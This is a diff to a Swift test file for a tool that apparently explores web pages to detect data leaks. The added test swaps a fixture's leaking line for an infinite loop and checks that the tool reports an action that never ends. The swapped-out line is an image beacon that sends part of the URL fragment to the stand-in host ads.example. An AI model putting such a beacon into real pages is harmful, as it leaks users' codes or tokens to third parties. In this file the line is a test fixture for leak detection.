@@ -92,6 +92,20 @@ import Testing
     #expect(replay.output.contains("A request to ads.example takes the code of another host with it."))
   }
 
+  @Test func `an order that ends its process is named`() throws {
+    let scratch = try Scratch()
+    let page = try scratch.add(
+      "stuck.html",
+      Self.leak.replacing(
+        "new Image().src = 'https://ads.example/pixel?c=' + location.hash.slice(6)", with: "for (;;);"))
+    let found = try Tool.run(
+      "explore", page, "--click", "#in", "--kinds", "user", "--runs", "500", "--jobs", "1", "--time-limit", "3")
+    #expect(found.code == 1, "\(found.output)\(found.errors)")
+    let order = try Self.order(in: found.output)
+    #expect(order.hasSuffix("=again"))
+    #expect(found.output.contains("\n  \(order), at a moment that is not known.\n"), "\(found.output)")
+  }
+
   @Test func `a scenario that finds nothing to click breaks in the ordinary order`() throws {
     let scratch = try Scratch()
     let file = try scratch.add(
